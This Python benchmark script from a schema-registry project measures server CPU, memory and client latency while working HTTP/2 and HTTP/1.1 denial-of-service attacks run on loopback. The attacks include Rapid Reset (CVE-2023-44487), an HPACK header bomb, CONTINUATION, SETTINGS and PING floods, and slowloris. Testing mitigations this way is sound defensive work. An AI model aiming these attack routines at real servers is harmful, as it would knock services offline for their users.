#!/usr/bin/python3
"""
abuse: what hostile HTTP/2 and HTTP/1.1 clients cost the server, next to a
well-behaved client in the same run (docs/security.md, "HTTP/2 and HTTP/1.1
abuse"). Loopback only; every attack is bounded in time and in frames.

  /usr/bin/python3 bench/abuse.py --binary build-release/schema-registry
                                  [--seconds 4] [--only reset,hpack,...]

For each server variant (mitigations "off": --max-connection-resets 0
--max-request-headers 0 --max-request-header-bytes 536870912; "on": the
defaults) and each attack:
  1. baseline: the well-behaved client alone for --seconds
  2. attack:   the same client while the attack runs for --seconds
and the table gives, for both phases, the server's CPU (seconds of CPU per
second, from /proc/PID/stat), its RSS, and the client's p50/p99 latency of
GET /schemas/ids/1 (HTTP/1.1 keep-alive) and of a registration (a new
subject each, through the database), with attack/baseline ratios.

Attacks (raw frames written with python3-hyperframe and hpack):
  reset        HEADERS (GET by id) + RST_STREAM in a loop, 100 pairs a write  (CVE-2023-44487)
  reset-write  HEADERS + DATA (a registration) + RST_STREAM in a loop
  hpack        one 3000-byte header put in the HPACK table, then requests that
               name it 16,000 times (one 16 KB frame: 48 MB of decoded values each)
  continuation HEADERS without END_HEADERS, then 16 KB CONTINUATIONs forever
  continuation-empty  the same with empty CONTINUATIONs (no bytes to buffer)
  settings     SETTINGS frames in a loop, ACKs never read
  ping         PING frames in a loop, ACKs never read
  slowloris    200 HTTP/1.1 connections, one header byte each every 2 s
  h2-idle      200 h2c connections: 100 silent after the preface, 100 sending a PING every 2 s
An attacker whose connection is closed reconnects (and the table counts it).
Nothing is asserted: benchmarks report, tests judge.
"""

import argparse
import json
import multiprocessing
import os
import signal
import socket
import statistics
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "tests", "integration"))

import harness  # noqa: E402
from harness import SR_V1, avro_record  # noqa: E402

try:
    import hpack
    from hyperframe.frame import (ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame,
                                  SettingsFrame)
except ImportError as exc:
    raise SystemExit(f"python3-h2 (hyperframe, hpack) is not importable ({exc}); run scripts/install-deps.sh")

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
OFF_ARGS = ["--max-connection-resets", "0", "--max-request-headers", "0",
            "--max-request-header-bytes", "536870912"]


# ---- the server's side -----------------------------------------------------------

def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def rss_mb(pid, key="VmRSS"):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(key + ":"):
                return int(line.split()[1]) / 1024
    return 0.0


# ---- the well-behaved client -----------------------------------------------------

class Probe:
    """Sequential requests on keep-alive HTTP/1.1 connections: reads by id and
    registrations of new subjects, each timed; reconnects when closed."""

    def __init__(self, port, tag):
        self.port, self.tag = port, tag
        self.reads, self.writes, self.errors = [], [], 0
        self.stop = threading.Event()

    def _conn(self):
        c = harness.http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        return c

    def _run(self, kind):
        conn, n = self._conn(), 0
        while not self.stop.is_set():
            n += 1
            if kind == "read":
                method, path, body = "GET", "/schemas/ids/1", None
            else:
                method, path = "POST", f"/subjects/probe-{self.tag}-{n}/versions"
                body = json.dumps({"schema": avro_record(f"P{n}", [("a", "string")])})
            t0 = time.monotonic()
            try:
                conn.request(method, path, body=body, headers={"Content-Type": SR_V1})
                r = conn.getresponse()
                r.read()
                ok = r.status == 200
            except (OSError, harness.http.client.HTTPException):
                ok = False
                conn.close()
                conn = self._conn()
            took = time.monotonic() - t0
            if ok:
                (self.reads if kind == "read" else self.writes).append(took)
            else:
                self.errors += 1
            if kind == "write":
                time.sleep(0.01)             # a steady writer, not a flood
        conn.close()

    def start(self):
        self.threads = [threading.Thread(target=self._run, args=(k,), daemon=True) for k in ("read", "write")]
        for t in self.threads:
            t.start()
        return self

    def finish(self):
        self.stop.set()
        for t in self.threads:
            t.join(timeout=60)


def pct(values, q):
    if not values:
        return float("nan")
    values = sorted(values)
    return values[min(len(values) - 1, int(q * len(values)))] * 1000


# ---- attackers ---------------------------------------------------------------------

def encoder_block(enc, headers):
    return enc.encode(headers)


class H2Attacker:
    """One raw h2c connection (reconnecting when the server closes it) and a reader
    that discards what the server sends, so the server never waits on us."""

    def __init__(self, port, read=True):
        self.port, self.read = port, read
        self.connects = 0
        self.frames = 0
        self.sock = None
        self.drainers = []

    def connect(self):
        if self.sock:
            self.sock.close()
        self.sock = socket.create_connection(("127.0.0.1", self.port), timeout=5)
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())
        self.connects += 1
        self.enc = hpack.Encoder()
        if self.read:
            # A process of its own reads and drops the replies as fast as the server
            # writes them: a reader sharing our interpreter would throttle the attack.
            pid = os.fork()
            if pid == 0:
                try:
                    while os.read(self.sock.fileno(), 1 << 16):
                        pass
                finally:
                    os._exit(0)
            self.drainers.append(pid)
        for pid in list(self.drainers):
            if os.waitpid(pid, os.WNOHANG)[0] == pid:
                self.drainers.remove(pid)

    def close(self):
        if self.sock:
            self.sock.close()
        for pid in self.drainers:
            try:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
            except OSError:
                pass

    def send(self, data, nframes):
        try:
            self.sock.sendall(data)
            self.frames += nframes
            return True
        except OSError:
            return False


def req_headers(method, path):
    return [(":method", method), (":scheme", "http"), (":authority", "localhost"), (":path", path),
            ("content-type", SR_V1)]


def attack_reset(port, stop, write=False):
    a = H2Attacker(port)
    headers = req_headers("POST", "/subjects/rr/versions") if write else req_headers("GET", "/schemas/ids/1")
    sid, n = 1, 0
    while not stop.is_set():
        if sid == 1:
            a.connect()
            first = a.enc.encode(headers)
            block = a.enc.encode(headers)       # all indexed from now on: the same bytes every time
        out = []
        for _ in range(100):
            n += 1
            h = first if sid == 1 else block
            if write:
                body = b'{"schema":"{\\"type\\":\\"record\\",\\"name\\":\\"R%d\\",\\"fields\\":[]}"}' % n
                out.append(HeadersFrame(sid, h, flags=["END_HEADERS"]).serialize())
                out.append(DataFrame(sid, body, flags=["END_STREAM"]).serialize())
            else:
                out.append(HeadersFrame(sid, h, flags=["END_HEADERS", "END_STREAM"]).serialize())
            out.append(RstStreamFrame(sid, error_code=8).serialize())
            sid += 2
        if not a.send(b"".join(out), 300 if write else 200) or sid > 2**31 - 300:
            sid = 1
    a.close()
    return {"frames": a.frames, "connections": a.connects}


def attack_hpack(port, stop):
    a = H2Attacker(port)
    sid = 1
    while not stop.is_set():
        if sid == 1:
            a.connect()
            # Literal with incremental indexing: x-bomb puts 3000 bytes in the table (index 62).
            first = a.enc.encode(req_headers("GET", "/schemas/ids/1") + [("x-bomb", "b" * 3000)])
            ok = a.send(HeadersFrame(1, first, flags=["END_HEADERS", "END_STREAM"]).serialize(), 1)
            base = a.enc.encode(req_headers("GET", "/schemas/ids/1"))
            assert a.enc.header_table.dynamic_entries[0][0] == b"x-bomb"   # the newest entry: index 62
            sid = 3
            if not ok:
                sid = 1
                continue
        # Indexed header field 62, 16,000 times in one frame: 48 MB of decoded header values.
        # (Spread over CONTINUATIONs h2o stops it by itself: it closes the connection.)
        frames = [HeadersFrame(sid, base + b"\xbe" * 16000, flags=["END_HEADERS", "END_STREAM"]).serialize()]
        frames.append(RstStreamFrame(sid, error_code=8).serialize())
        if not a.send(b"".join(frames), len(frames)):
            sid = 1
            continue
        sid += 2
    a.close()
    return {"frames": a.frames, "connections": a.connects}


def attack_continuation(port, stop, empty=False):
    a = H2Attacker(port)
    fresh = True
    chunk = b"" if empty else b"\xbe" * 16384
    while not stop.is_set():
        if fresh:
            a.connect()
            block = a.enc.encode(req_headers("GET", "/schemas/ids/1"))
            if not a.send(HeadersFrame(1, block, flags=["END_STREAM"]).serialize(), 1):
                continue
            fresh = False
        batch = ContinuationFrame(1, chunk).serialize() * (1000 if empty else 8)
        if not a.send(batch, 1000 if empty else 8):
            fresh = True
    a.close()
    return {"frames": a.frames, "connections": a.connects}


def attack_control(port, stop, kind):
    a = H2Attacker(port, read=False)           # never reads the ACKs
    a.connect()
    frame = (SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}) if kind == "settings"
             else PingFrame(0, opaque_data=b"12345678")).serialize()
    batch = frame * 1000
    while not stop.is_set():
        a.sock.settimeout(0.5)
        try:
            a.sock.sendall(batch)
            a.frames += 1000
        except socket.timeout:
            a.frames += 0                      # the server stopped reading: our writes block
        except OSError:
            a.connect()
    a.close()
    return {"frames": a.frames, "connections": a.connects}


def attack_slowloris(port, stop, n=200):
    socks, opened, closed_after = [], time.monotonic(), []
    for _ in range(n):
        s = socket.create_connection(("127.0.0.1", port), timeout=5)
        s.sendall(b"GET /schemas/ids/1 HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        socks.append([s, time.monotonic()])
    while not stop.is_set():
        for entry in socks:
            s, t0 = entry
            if s is None:
                continue
            try:
                s.sendall(b"a")
                s.settimeout(0.001)
                if s.recv(100) == b"":
                    raise ConnectionError
            except socket.timeout:
                pass
            except OSError:
                closed_after.append(time.monotonic() - t0)
                s.close()
                entry[0] = None
        stop.wait(2)
    alive = sum(1 for s, _ in socks if s is not None)
    for s, _ in socks:
        if s is not None:
            s.close()
    return {"connections": n, "open_at_end": alive,
            "closed_after_s": round(statistics.median(closed_after), 1) if closed_after else None}


def attack_h2_idle(port, stop, n=200):
    socks = []
    for i in range(n):
        s = socket.create_connection(("127.0.0.1", port), timeout=5)
        s.sendall(PREFACE + SettingsFrame(0).serialize())
        socks.append([s, time.monotonic(), i % 2 == 1])
    closed = {False: [], True: []}
    while not stop.is_set():
        for entry in socks:
            s, t0, pings = entry
            if s is None:
                continue
            try:
                if pings:
                    s.sendall(PingFrame(0, opaque_data=b"keepaliv").serialize())
                s.settimeout(0.001)
                while True:
                    if s.recv(1 << 16) == b"":
                        raise ConnectionError
            except socket.timeout:
                pass
            except OSError:
                closed[pings].append(time.monotonic() - t0)
                s.close()
                entry[0] = None
        stop.wait(2)
    alive = {p: sum(1 for s, _, q in socks if s is not None and q == p) for p in (False, True)}
    for s, _, _ in socks:
        if s is not None:
            s.close()
    return {"silent_open_at_end": alive[False], "pinging_open_at_end": alive[True],
            "silent_closed_after_s": round(statistics.median(closed[False]), 1) if closed[False] else None}


ATTACKS = {
    "reset": lambda port, stop: attack_reset(port, stop),
    "reset-write": lambda port, stop: attack_reset(port, stop, write=True),
    "hpack": attack_hpack,
    "continuation": lambda port, stop: attack_continuation(port, stop),
    "continuation-empty": lambda port, stop: attack_continuation(port, stop, empty=True),
    "settings": lambda port, stop: attack_control(port, stop, "settings"),
    "ping": lambda port, stop: attack_control(port, stop, "ping"),
    "slowloris": attack_slowloris,
    "h2-idle": attack_h2_idle,
}
LONG = {"slowloris", "h2-idle"}                # must outlive the 10 s timeouts


# ---- one measurement ------------------------------------------------------------

def phase(server, seconds, tag, attack=None):
    pid = server.proc.pid
    probe = Probe(server.port, tag).start()
    # The attacker runs in a process of its own: sharing the probe's interpreter
    # lock would slow the probe down by itself and blur the latencies.
    stop, result, box = multiprocessing.Event(), None, multiprocessing.Queue()
    if attack:
        t = multiprocessing.Process(target=lambda: box.put(ATTACKS[attack](server.port, stop)), daemon=True)
        t.start()
    c0, t0 = cpu_seconds(pid), time.monotonic()
    peak = 0.0
    while time.monotonic() - t0 < seconds:
        time.sleep(0.2)
        peak = max(peak, rss_mb(pid))
    cpu = (cpu_seconds(pid) - c0) / (time.monotonic() - t0)
    stop.set()
    if attack:
        try:
            result = box.get(timeout=60)
        except Exception:
            result = None
        t.join(timeout=30)
        if t.is_alive():
            t.kill()
    probe.finish()
    alive = server.proc.poll() is None
    return {"cpu": cpu, "rss_peak_mb": peak, "read_p50": pct(probe.reads, 0.5), "read_p99": pct(probe.reads, 0.99),
            "write_p50": pct(probe.writes, 0.5), "write_p99": pct(probe.writes, 0.99),
            "reads": len(probe.reads), "writes": len(probe.writes), "errors": probe.errors,
            "attacker": result, "server_alive": alive}


def ratio(a, b):
    return a / b if b and b == b and a == a else float("nan")


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--binary", required=True)
    ap.add_argument("--seconds", type=float, default=4)
    ap.add_argument("--only", default=",".join(ATTACKS))
    ap.add_argument("--variants", default="off,on")
    ap.add_argument("--json", default=None, help="also write the figures here")
    args = ap.parse_args()
    attacks = [a for a in args.only.split(",") if a]
    for a in attacks:
        if a not in ATTACKS:
            raise SystemExit(f"unknown attack {a}; choose from {', '.join(ATTACKS)}")
    pg = harness.cluster()
    rows = []
    print(f"{'attack':19} {'mitig':5} {'cpu base':>8} {'cpu att':>8} {'x':>6} {'rss MB':>7} "
          f"{'read p50/p99 base ms':>21} {'attack':>13} {'x p99':>6} {'write p99 b/a ms':>17} {'err':>4}  attacker",
          flush=True)
    for variant in args.variants.split(","):
        db = pg.new_database(f"abuse_{variant}")
        server = harness.Server(database_url=db.url, binary=os.path.abspath(args.binary), name=f"abuse-{variant}",
                                threads=2, args=OFF_ARGS if variant == "off" else []).start()
        c = server.client()
        assert c.post("/subjects/seed/versions", {"schema": avro_record("Seed", [("a", "string")])}).status == 200
        assert c.put("/config", {"compatibility": "NONE"}).status == 200
        for n, attack in enumerate(attacks):
            seconds = max(args.seconds, 14) if attack in LONG else args.seconds
            base = phase(server, args.seconds, f"{variant}{n}b")
            hit = phase(server, seconds, f"{variant}{n}a", attack)
            if not hit["server_alive"]:
                print(f"{attack}: the server died\n{harness.tail(server.log)}")
                break
            row = {"attack": attack, "mitigations": variant, "baseline": base, "attack_phase": hit,
                   "cpu_ratio": ratio(hit["cpu"], base["cpu"]),
                   "read_p99_ratio": ratio(hit["read_p99"], base["read_p99"]),
                   "write_p99_ratio": ratio(hit["write_p99"], base["write_p99"])}
            rows.append(row)
            print(f"{attack:19} {variant:5} {base['cpu']:8.2f} {hit['cpu']:8.2f} {row['cpu_ratio']:6.2f} "
                  f"{hit['rss_peak_mb']:7.0f} {base['read_p50']:10.2f}/{base['read_p99']:<10.2f}"
                  f"{hit['read_p50']:6.2f}/{hit['read_p99']:<6.2f} {row['read_p99_ratio']:6.1f} "
                  f"{base['write_p99']:8.1f}/{hit['write_p99']:<8.1f} {hit['errors']:4d}  "
                  f"{json.dumps(hit['attacker'])}", flush=True)
        with open(server.log, errors="replace") as f:
            closes = sum(1 for line in f if "closing a connection" in line)
        print(f"  ({variant}: {closes} 'closing a connection' log lines)", flush=True)
        server.stop()
    if args.json:
        with open(args.json, "w") as f:
            json.dump(rows, f, indent=1)


if __name__ == "__main__":
    main()
